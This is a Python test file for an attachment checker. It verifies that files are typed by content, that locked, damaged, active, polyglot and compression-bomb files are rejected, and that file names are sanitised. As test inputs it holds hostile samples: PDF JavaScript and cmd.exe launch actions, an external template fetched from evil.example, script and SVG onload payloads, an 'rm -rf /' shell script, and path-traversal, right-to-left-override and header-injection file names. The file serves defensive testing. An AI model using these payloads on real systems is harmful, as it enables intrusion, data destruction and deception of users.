"""What a file is, by its content alone: what is of two kinds, active, locked or a bomb is not taken."""

import random
import zlib
from contextlib import suppress
from io import BytesIO

import openpyxl
import pytest

from erpd.access.attachments import content as module
from erpd.access.attachments.content import (
    DOCX,
    JPEG,
    KINDS,
    ODS,
    ODT,
    PDF,
    PNG,
    TEXT,
    XLSX,
    Kind,
    Unfit,
    Wrong,
    kind_of,
)
from erpd.access.attachments.naming import cleaned
from tests.access.attachments import files
from tests.access.attachments.files import GOOD_PDF, open_document, open_xml, zipped


def spreadsheet() -> bytes:
    book = openpyxl.Workbook()
    book.active["A1"] = "x"
    book.save(file := BytesIO())
    return file.getvalue()


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (GOOD_PDF, PDF),
        (files.png(), PNG),
        (files.JPEG, JPEG),
        (open_document(), ODT),
        (open_document("spreadsheet"), ODS),
        (open_xml(), DOCX),
        (spreadsheet(), XLSX),
        ("Jahr;Größe\n2020;5\n".encode(), TEXT),
        ("Größe".encode("cp1252"), TEXT),
        ("a\tb".encode("utf-16"), TEXT),
    ],
)
def test_a_kind_is_known_by_its_content(content: bytes, kind: Kind) -> None:
    assert kind_of(content) is kind


def objects(text: bytes) -> bytes:
    packed = zlib.compress(text)
    return GOOD_PDF.replace(
        b"trailer", b"2 0 obj << /Type /ObjStm >>\nstream\n" + packed + b"\nendstream\ntrailer"
    )


EXTERNAL = '<R Type="http://x/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>'


@pytest.mark.parametrize(
    ("content", "wrong"),
    [
        (b"", Wrong.EMPTY),
        (b"MZ\x90\0\3", Wrong.KIND),
        (b"\x7fELF\2\1\1\0", Wrong.KIND),
        (b"GIF89a\0", Wrong.KIND),
        (zipped({"a.txt": "a"}), Wrong.KIND),
        (open_document("presentation"), Wrong.KIND),
        (b"%PDF-1.7\n", Wrong.DAMAGED),
        (files.png()[:-12], Wrong.DAMAGED),
        (open_xml()[:-30], Wrong.DAMAGED),
        (b"\xff\xd8\xff\xe0 a picture without an end", Wrong.DAMAGED),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, Wrong.LOCKED),
        (files.PDF % b"/Encrypt 2 0 R ", Wrong.LOCKED),
        (open_document(**{"META-INF/manifest.xml": "<manifest:encryption-data/>"}), Wrong.LOCKED),
        (files.PDF % b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> ", Wrong.ACTIVE),
        (files.PDF % b"/OpenAction << /S /J#61vaScr#69pt /JS (x) >> ", Wrong.ACTIVE),
        (files.PDF % b"/OpenAction << /S /Launch /F (cmd.exe) >> ", Wrong.ACTIVE),
        (objects(b"1 0 << /S /JavaScript /JS (x) >>"), Wrong.ACTIVE),
        (open_document(**{"Basic/Standard/Module1.xml": "x"}), Wrong.ACTIVE),
        (open_xml(more={"word/vbaProject.bin": b"x"}), Wrong.ACTIVE),
        (open_xml(more={"word/embeddings/oleObject1.bin": b"x"}), Wrong.ACTIVE),
        (open_xml(more={"xl/macrosheets/sheet1.xml": b"x"}), Wrong.ACTIVE),
        (open_xml(more={"word/_rels/settings.xml.rels": EXTERNAL}), Wrong.ACTIVE),
        (open_xml(more={"word/_rels/settings.xml.rels": EXTERNAL.replace("E", "&#69;")}), Wrong.ACTIVE),
        (open_xml("wordprocessingml.document.macroEnabled"), Wrong.ACTIVE),
        (b"  <!DOCTYPE html><script>alert(1)</script>", Wrong.ACTIVE),
        (b"\xef\xbb\xbf<svg onload=alert(1)>", Wrong.ACTIVE),
        ("<script>".encode("utf-16"), Wrong.ACTIVE),
        (b"#!/bin/sh\nrm -rf /", Wrong.ACTIVE),
        (GOOD_PDF + zipped({"evil.class": "x"}) + b"%%EOF", Wrong.TWO_KINDS),
        (files.JPEG + zipped({"evil.class": "x"}), Wrong.TWO_KINDS),
        (files.png() + b"MZ", Wrong.TWO_KINDS),
        (b"\xff\xd8\xff\xe0" + GOOD_PDF + b"\xff\xd9", Wrong.TWO_KINDS),
        (zipped({"mimetype": "x"}, b"comment"), Wrong.TWO_KINDS),
    ],
)
def test_what_is_wrong_is_told(content: bytes, wrong: Wrong) -> None:
    with pytest.raises(Unfit) as told:
        kind_of(content)
    assert told.value.wrong is wrong


def test_a_bomb_is_not_unpacked(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(module, "MOST_UNPACKED", 2**20)
    monkeypatch.setattr(module, "_MOST_OF_PDF", 2**20)
    zeros = b"\0" * 2**21
    for content in (open_xml(more={"word/big.xml": zeros}), objects(zeros), open_document(mimetype=zeros)):
        with pytest.raises(Unfit, match="bomb"):
            kind_of(content)


def test_damage_anywhere_is_no_fault_of_ours() -> None:
    chance = random.Random(20261127)
    whole = [
        GOOD_PDF,
        files.png(),
        files.JPEG,
        open_document(),
        open_xml(),
        spreadsheet(),
        objects(b"1 0 << >>"),
    ]
    for number in range(700):
        content = bytearray(whole[number % len(whole)])
        for _ in range(chance.randrange(1, 9)):
            content[chance.randrange(len(content))] = chance.randrange(256)
        with suppress(Unfit):
            kind_of(bytes(content))


@pytest.mark.parametrize(
    ("name", "kind", "safe"),
    [
        ("plan.pdf", PDF, "plan.pdf"),
        ("PLAN.PDF", PDF, "PLAN.pdf"),
        ("../../etc/passwd", TEXT, "passwd.txt"),
        ("C:\\temp\\data.csv", TEXT, "data.csv"),
        ("invoice.pdf.exe", PDF, "invoice.pdf.exe.pdf"),
        ("evil\u202efdp.exe", PDF, "evilfdp.exe.pdf"),
        ('a"b;c\r\nSet-Cookie: x.png', PNG, "a_b_c Set-Cookie_ x.png"),
        ("con.pdf", PDF, "_con.pdf"),
        ("NUL", TEXT, "_NUL.txt"),
        (" . ", PDF, "attachment.pdf"),
        (".htaccess", TEXT, "htaccess.txt"),
        ("page.html", TEXT, "page.html.txt"),
        ("Größe\0.odt", ODT, "Größe.odt"),
        ("x" * 5_000, JPEG, "x" * 115 + ".jpg"),
    ],
)
def test_a_name_can_be_saved_anywhere(name: str, kind: Kind, safe: str) -> None:
    assert cleaned(name, kind) == safe
    assert kind in KINDS
